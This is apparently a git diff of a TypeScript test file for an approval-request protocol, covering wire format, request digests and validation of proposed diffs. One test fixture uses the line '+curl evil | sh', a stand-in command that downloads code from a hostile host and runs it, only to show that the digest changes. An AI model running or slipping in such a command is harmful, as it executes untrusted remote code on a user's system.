@@ -1,8 +1,8 @@
 import { limits } from '@holdpoint/core/protocol'
 import { describe, expect, test } from 'vitest'
-import { questionRow } from '../../test/engine/support/question-row.ts'
-import type { ApprovalQuestion, InputQuestion } from './requests.ts'
-import { checkRequest, requestDigest, requestEvent, reworded, wireOf, wireRequest } from './wire-request.ts'
+import { questionRow } from '../../../test/engine/support/question-row.ts'
+import type { ApprovalQuestion, InputQuestion } from '../api/questions.ts'
+import { checkRequest, requestDigest, requestEvent, reworded, wireOf, wireRequest } from './request-event.ts'
 
 const field = { id: 'name', type: 'text', label: 'Name' } as const
 const ids = { sessionId: 's', runId: 'r', toolCallId: 'c', toolName: 't', interactionId: 'q', attempt: 1 }
@@ -11,16 +11,18 @@ const form = { type: 'input', inputSchema: [field] } satisfies InputQuestion
 const ask = (question: ApprovalQuestion | InputQuestion) => requestEvent(wireRequest(question), { ...ids, now: 5_000 })
 
 describe('a question in the words of the protocol', () => {
-  test('five minutes, once or for the session, unless the tool says otherwise', () => {
+  test('five minutes, more on request, once or for the session, unless the tool says otherwise', () => {
     expect(wireRequest(approval())).toEqual({
       interactionType: 'approval',
       timeoutMs: 300_000,
       approvalScopes: ['once', 'session'],
+      extendable: true,
     })
-    expect(wireRequest(approval({ timeoutMs: 7, approvalScopes: ['once'] }))).toEqual({
+    expect(wireRequest(approval({ timeoutMs: 7, approvalScopes: ['once'], extendable: false }))).toEqual({
       interactionType: 'approval',
       timeoutMs: 7,
       approvalScopes: ['once'],
+      extendable: false,
     })
     expect(wireRequest(form)).not.toHaveProperty('approvalScopes')
   })
@@ -28,7 +30,7 @@ describe('a question in the words of the protocol', () => {
   test('what stays with the host never leaves it, whatever is spread into a question', () => {
     const own = { key: 'k', whenUnavailable: 'wait', onResponse: 'secret', policy: 'secret', runId: 'other', now: 1 }
     const wire = wireRequest({ ...approval({ prompt: 'Go?' }), ...own } as never)
-    expect(Object.keys(wire).sort()).toEqual(['approvalScopes', 'interactionType', 'prompt', 'timeoutMs'])
+    expect(Object.keys(wire).sort()).toEqual(['approvalScopes', 'extendable', 'interactionType', 'prompt', 'timeoutMs'])
   })
 
   test('who wants to know is shown; that they are held to a rate is not', () => {
@@ -65,12 +67,12 @@ describe('the next prompt', () => {
   }
 
   test('says what the last one said, without what was wrong with the last answer', () => {
-    expect(reworded(last, {})).toEqual({ ...said, requester })
+    expect(reworded(last, {})).toEqual({ ...said, extendable: true, requester })
   })
 
   test('says otherwise what the tool changes, and only that', () => {
     const change = { error: 'Again.', timeoutMs: 9, whenUnavailable: 'wait', onResponse: 'secret' } as never
-    expect(reworded(last, change)).toEqual({ ...said, requester, error: 'Again.', timeoutMs: 9 })
+    expect(reworded(last, change)).toEqual({ ...said, extendable: true, requester, error: 'Again.', timeoutMs: 9 })
     expect(reworded(last, { type: 'approval', prompt: 'Sure?' })).toMatchObject({
       interactionType: 'approval',
       prompt: 'Sure?',
@@ -95,18 +97,50 @@ test('what a question said can be said again; one for accounts says nothing of i
   expect(wireOf({ type: 'auth_needed', prompt: 'Connect', timeoutMs: 5 } as never)).toEqual({})
 })
 
-test.each([
-  ['the tool', 'other_tool', {}],
-  ['the prompt', 't', { prompt: 'Else?' }],
-  ['the arguments', 't', { args: { n: 2 } }],
-  ['the fields', 't', { inputSchema: [{ ...field, id: 'other' }] }],
-  ['the kind', 't', { type: 'input' }],
-])('two questions are two when %s differs', (_what, tool, change) => {
-  const question = approval({ prompt: 'Go?', args: { n: 1 } })
-  const digest = (name: string, changes: object) =>
-    requestDigest(name, wireRequest({ ...question, ...changes } as never))
-  expect(digest('t', { labels: { approve: 'Yes' }, timeoutMs: 5, risk: 'high' })).toBe(digest('t', {}))
-  expect(digest(tool, change)).not.toBe(digest('t', {}))
+describe('the digest of a question covers', () => {
+  const hunk = { id: 'h1', oldStart: 1, newStart: 1, lines: ['+echo hello'] }
+  const question = approval({
+    ...{ prompt: 'Go?', args: { n: 1 }, risk: 'low', editable: true, audience: ['bob'], error: 'Why.' },
+    diff: [{ path: 'a.sh', hunks: [hunk] }],
+    labels: { approve: 'Go' },
+    approvalScopes: ['once'],
+    requester: { name: 'Mail', kind: 'agent' },
+  })
+  const digest = (changes: object = {}, tool = 't') =>
+    requestDigest(tool, wireRequest({ ...question, ...changes } as never))
+
+  test.each([
+    ['kind', { type: 'input' }],
+    ['prompt', { prompt: 'Else?' }],
+    ['arguments', { args: { n: 2 } }],
+    ['draft of the arguments', { draftArgs: { n: 2 } }],
+    ['permission to edit', { editable: false }],
+    ['fields for editing', { argsSchema: { type: 'form', fields: [field] } }],
+    ['diff', { diff: [{ path: 'a.sh', hunks: [{ ...hunk, lines: ['+curl evil | sh'] }] }] }],
+    ['path of a diff', { diff: [{ path: 'b.sh', hunks: [hunk] }] }],
+    ['risk', { risk: 'high' }],
+    ['labels', { labels: { approve: 'Stop' } }],
+    ['scopes', { approvalScopes: ['once', 'session'] }],
+    ['coverage of a scope', { approvalCovers: 'tool' }],
+    ['name of what a scope covers', { approvalLabel: 'rollouts' }],
+    ['audience', { audience: ['bob', 'eve'] }],
+    ['requester', { requester: { name: 'Bank', kind: 'agent' } }],
+    ['fields', { inputSchema: [field] }],
+    ['initial values', { initialValues: { a: 1 } }],
+    ['error', { error: 'Because.' }],
+    ['errors of fields', { fieldErrors: { a: ['No.'] } }],
+  ])('the %s', (_what, change) => {
+    expect(digest(change)).not.toBe(digest())
+  })
+
+  test('the tool', () => {
+    expect(digest({}, 'other_tool')).not.toBe(digest())
+  })
+
+  test('neither the time limit nor the layout', () => {
+    const layout = { timeoutMs: 5, extendable: true, presentation: 'tool', completedView: { showInputs: true } }
+    expect(digest(layout)).toBe(digest())
+  })
 })
 
 test('it expires so long after it was asked', () => {
@@ -141,6 +175,22 @@ describe('before anybody is asked', () => {
     expect(wrong).toThrow(expect.objectContaining({ code: 'invalid_request', details: { path: 'risk' } }))
     expect(wrong).toThrow('"risk"')
     expect(check(approval({ labels: { approve: 7 } as never }))).toThrow('"labels.approve"')
+  })
+
+  test('a diff in which one id names two changes is refused', () => {
+    const hunk = (id: string) => ({ id, oldStart: 1, newStart: 1, lines: ['+a'] })
+    const files = (...hunks: string[][]) => hunks.map((ids, n) => ({ path: `${n}.txt`, hunks: ids.map(hunk) }))
+    for (const diff of [
+      files(['h1'], ['h1']),
+      files(['h1', 'h1']),
+      files([], ['0.txt']),
+      [...files([]), ...files([])],
+    ]) {
+      const wrong = check(approval({ diff }))
+      expect(wrong).toThrow(expect.objectContaining({ code: 'invalid_request', details: { path: 'diff' } }))
+      expect(wrong).toThrow('one decision would count for both')
+    }
+    expect(check(approval({ diff: files(['h1', 'h2'], ['h3'], []) }))).not.toThrow()
   })
 
   test('what is wrong with the question as a whole is said without a place', () => {
